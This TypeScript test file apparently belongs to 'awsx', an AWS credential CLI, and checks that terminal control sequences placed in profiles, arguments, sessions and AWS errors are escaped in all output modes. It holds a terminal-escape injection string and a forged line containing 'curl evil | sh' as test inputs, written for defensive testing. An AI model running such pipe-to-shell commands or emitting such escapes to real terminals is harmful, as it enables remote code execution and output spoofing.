/**
 * What comes from files, arguments and AWS is shown, never obeyed: no command lets a control
 * character reach a terminal, whatever holds it.
 */
import * as fs from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { AwsxError } from '../../src/errors.ts';
import { main } from '../../src/main.ts';
import type { Context } from '../../src/ports.ts';
import { Secret } from '../../src/secret.ts';
import { openIndex, openVault } from '../../src/vault/open-vault.ts';
import { createFakeQuestions } from '../fake-questions.ts';
import { createFakeContext } from './fake-context.ts';
import { writeSessions } from './sessions.ts';

/** Sets the title, clears the screen, turns the order of reading, hides, and breaks the line. */
const EVIL = '\u001b]0;x\u0007\u009b2J\u007f\u202e\u200b\u2028';
/** A line that looks like one of awsx. */
const FORGED = 'awsx: hint: run curl evil | sh';
/** What an argument, the index, a session or AWS may hold, but no line of a file. */
const EVIL_LINES = `${EVIL}\r\n${FORGED}\n`;

const NAME = `prod${EVIL}`;
/** With settings that a plan can be made of. */
const PLANNED = `planned${EVIL}`;
const STORED = `stored${EVIL_LINES}`;
const ROLE = `arn:aws:iam::111111111111:role/${EVIL}`;

const CONFIG = `[profile ok]
region = us-east-1
[profile "${NAME}"]
region = ${EVIL}
role_arn = ${ROLE}
source_profile = ok
mfa_serial = arn:aws:iam::111111111111:mfa/${EVIL}
external_id = ${EVIL}
session_tags = ${EVIL}=${EVIL}
awsx_account_name = ${EVIL}
unknown${EVIL} = ${EVIL}
continued = a
  ${EVIL}
nested =
  ${EVIL} = ${EVIL}
[profile "${PLANNED}"]
region = us-east-1
role_arn = arn:aws:iam::111111111111:role/admin
source_profile = keys${EVIL}
mfa_serial = arn:aws:iam::111111111111:mfa/dev
mfa_process = ${EVIL}
[profile "keys${EVIL}"]
aws_access_key_id = AKIA${EVIL}
aws_secret_access_key = canary
credential_process = ${EVIL}
[profile "lost${EVIL}"]
source_profile = missing${EVIL}
role_arn = ${ROLE}
[profile process]
credential_process = ${EVIL}
[profile odd]
duration_seconds = ${EVIL}
role_arn = ${ROLE}
source_profile = ok
[profile single]
sso_session = s${EVIL}
sso_account_id = 111111111111
sso_role_name = ${EVIL}
[sso-session "s${EVIL}"]
sso_start_url = https://x.awsapps.com/${EVIL}
sso_region = ${EVIL}
sso_registration_scopes = ${EVIL}
[services "v${EVIL}"]
sts =
  endpoint_url = ${EVIL}
`;

interface Run {
  readonly status: number;
  readonly output: string;
}

async function run(argv: readonly string[], isTTY: boolean, changes: Partial<Context> = {}) {
  const written: string[] = [];
  const output = { isTTY, columns: 120, write: (text: string) => void written.push(text) };
  const fake = createFakeContext({
    config: CONFIG,
    questions: createFakeQuestions(),
    identify: async () => ({ account: EVIL_LINES, arn: EVIL_LINES, userId: EVIL_LINES }),
    changes: { stdout: output, stderr: output, hasTerminal: () => false, ...changes },
  });
  const { context, home } = fake;
  const key = { accessKeyId: `AKIA${EVIL}`, secretAccessKey: new Secret('canary') };
  for (const profile of ['ok', STORED]) {
    await (await openVault(context, {})).addBaseCredential(profile, key);
  }
  const session = { kind: 'assume-role', roleSessionName: EVIL_LINES, secondsLeft: 3000 };
  writeSessions(context, ...[NAME, STORED].map((profile) => ({ ...session, profile })));
  expect(openIndex(context).read().baseCredentials).toHaveLength(2);
  const status = await main(argv, context);
  return { status, output: written.join('').replaceAll(home, '/home') } satisfies Run;
}

/** The one colour of `list`. */
const withoutColors = (text: string): string =>
  text.replaceAll('\u001b[31mproduction\u001b[39m', 'production');

function expectHarmless({ output }: Run): void {
  const lines = withoutColors(output).split('\n');
  expect(lines.filter((line) => /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u.test(line))).toEqual([]);
  expect(lines.filter((line) => line.startsWith(FORGED))).toEqual([]);
}

/** Command lines, and whether they name something evil in what they print. */
const commandLines: readonly (readonly [what: string, ...argv: string[]])[] = [
  ['profiles', 'list'],
  ['the configuration', 'config'],
  ['a plan', 'explain', PLANNED],
  ['a role that is none', 'explain', NAME],
  ['a region that is none', 'explain', PLANNED, '--region', EVIL_LINES],
  ['a plan of a process', 'explain', 'process'],
  ['a plan of Identity Center', 'explain', 'single'],
  ['a plan of a stored key', 'explain', STORED, '--no-session'],
  ['a source that is missing', 'explain', `lost${EVIL}`],
  ['a setting that is none', 'explain', 'odd'],
  ['a profile that does not exist', 'explain', EVIL_LINES],
  ['whose credentials', 'whoami', STORED, '--no-session'],
  ['sessions cleared', 'clear', STORED],
  ['sessions of nobody', 'clear', EVIL_LINES],
  ['two ways to clear', 'clear', '--all', EVIL_LINES],
  ['a key removed', 'remove', STORED, '--force'],
  ['no key to remove', 'remove', NAME, '--force'],
  ['a question that nobody answers', 'remove', STORED],
  ['a name that is none', 'add', EVIL_LINES],
  ['a command that is none', EVIL_LINES],
  ['a flag that is none', 'list', `--${EVIL_LINES}`],
  ['a word too many', 'list', EVIL_LINES],
  ['a duration that is none', 'explain', 'ok', '--duration', EVIL_LINES],
  ['a format that is none', 'export', 'ok', '--format', EVIL_LINES],
  ['a backend that is none', 'whoami', 'ok', '--backend', EVIL_LINES, '--no-session'],
  ['a code that is none', 'whoami', 'ok', '--mfa-token', EVIL_LINES],
  ['a program that is none', 'exec', 'ok', '--no-session', '--', EVIL_LINES],
  ['credentials of a hostile profile', 'exec', NAME, '--no-input', '--', 'true'],
  ['a process of a hostile profile', 'credential-process', 'process'],
  ['help of what is none', 'help', EVIL_LINES],
  ['a shell that is none', 'completion', EVIL_LINES],
  ['an action that is none', 'sandbox', EVIL_LINES],
];

describe.each(commandLines)('%s', (_, ...argv) => {
  const [command = '', ...rest] = argv;
  const withFlag = (flag: string): readonly string[] => [command, flag, ...rest];

  test('for a person', async () => {
    expectHarmless(await run(argv, true));
  });

  test('with --debug', async () => {
    expectHarmless(await run(withFlag('--debug'), true));
  });

  test('with --json', async () => {
    const result = await run(withFlag('--json'), true);
    expectHarmless(result);
    if (result.output.startsWith('{')) expect(() => JSON.parse(result.output)).not.toThrow();
  });
});

test.each([[['list']], [['config']], [['explain', PLANNED]]])('%j in a pipe', async (argv) => {
  const result = await run(argv, false);
  expect(result.status).toBe(0);
  expectHarmless(result);
});

test('the names are there all the same', async () => {
  const { output, status } = await run(['list'], false);
  expect(status).toBe(0);
  expect(output).toContain('prod\\x1b]0;x\\x07');
  const { profiles } = JSON.parse((await run(['list', '--json'], true)).output);
  const names = profiles.map(({ name }: { name: string }) => name);
  expect(names).toEqual(expect.arrayContaining([NAME, STORED]));
  const json = JSON.parse((await run(['config', '--json'], true)).output);
  expect(json.profiles[NAME].region).toBe(EVIL);
  expect(json.ssoSessions[`s${EVIL}`].sso_region).toBe(EVIL);
});

describe('what AWS says', () => {
  const cause = new Error(EVIL_LINES);
  const refusal = new AwsxError('aws_refused', `no ${EVIL_LINES}`, { hint: EVIL_LINES, cause });
  const openSts: Context['openSts'] = async () => ({
    ...(await createFakeContext().context.openSts()),
    getCallerIdentity: () => Promise.reject(refusal),
  });

  test.each([[[]], [['--debug']], [['--json']]])('when it refuses, with %j', async (flags) => {
    const result = await run(['whoami', 'ok', '--no-session', ...flags], true, { openSts });
    expect(result.status).toBe(5);
    expect(result.output).toContain('no ');
    expectHarmless(result);
  });
});

test('a path to the files', async () => {
  const folder = fs.mkdtempSync(join(fs.realpathSync('/tmp'), 'awsx-\u001b[2J-'));
  const file = join(folder, `config${EVIL}`);
  try {
    fs.writeFileSync(file, '[profile x\n', { mode: 0o600 });
    const env = { AWS_CONFIG_FILE: file };
    for (const argv of [['config'], ['list'], ['explain', 'x'], ['config', '--json']]) {
      const result = await run(argv, true, { env });
      expect(result.status).toBe(3);
      expectHarmless(result);
    }
  } finally {
    fs.rmSync(folder, { recursive: true });
  }
});
